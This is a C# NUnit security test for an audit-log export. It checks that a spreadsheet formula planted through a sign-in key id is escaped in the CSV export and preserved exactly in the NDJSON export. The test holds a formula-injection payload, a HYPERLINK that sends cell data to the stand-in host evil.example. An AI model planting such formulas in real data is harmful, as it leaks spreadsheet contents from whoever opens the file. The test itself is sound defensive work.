using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using DataExchange.IntegrationTests.Hosting;
using NUnit.Framework;

namespace DataExchange.IntegrationTests.Audit;

/// <summary>
/// Issue 13, item 7: an anonymous console sign-in attempt plants a formula through the key id it
/// claims; the audit CSV export shows it as text, neutralised like the records CSV, while the NDJSON
/// export keeps the value exactly (its hash must still verify).
/// </summary>
[TestFixture, Category("Security")]
public sealed partial class AuditCsvExportTests() : ExchangeFixture("audit_csv")
{
    const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        // The form as a browser posts it: antiforgery token and cookie from the page, then the planted key.
        var browser = Factory.CreateClient();
        var page = await browser.GetStringAsync("/console/signin");
        var token = AntiforgeryToken().Match(page).Groups[1].Value;
        using var form = new FormUrlEncodedContent(new Dictionary<string, string> { ["key"] = $"dx_{Formula}_secret", ["__RequestVerificationToken"] = token });
        var refused = await browser.PostAsync("/console/signin", form);
        Assert.That((int)refused.StatusCode, Is.EqualTo(401));
    }

    [Test]
    public async Task CsvExport_PrefixesAFormulaPlantedThroughAClaimedKeyId()
    {
        using var response = await Admin.GetRawAsync("/api/v1/audit/entries/export?format=csv&action=console-sign-in-refused");
        var csv = await response.Content.ReadAsStringAsync();
        var rows = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Multiple(() =>
        {
            Assert.That(rows, Has.Length.EqualTo(2), csv);
            Assert.That(rows[1], Does.Contain(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\","), "the target cell, neutralised and quoted");
            Assert.That(rows[1], Does.Not.Contain(",\"=").And.Not.Contain(",="), "no cell starts with a formula");
        });
    }

    [Test]
    public async Task NdjsonExport_KeepsThePlantedValueExactly()
    {
        using var response = await Admin.GetRawAsync("/api/v1/audit/entries/export?format=ndjson&action=console-sign-in-refused");
        var line = JsonNode.Parse((await response.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries).Single())!;

        Assert.That(line["target"]!.GetValue<string>(), Is.EqualTo(Formula));
    }

    [GeneratedRegex("name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"")]
    private static partial Regex AntiforgeryToken();
}
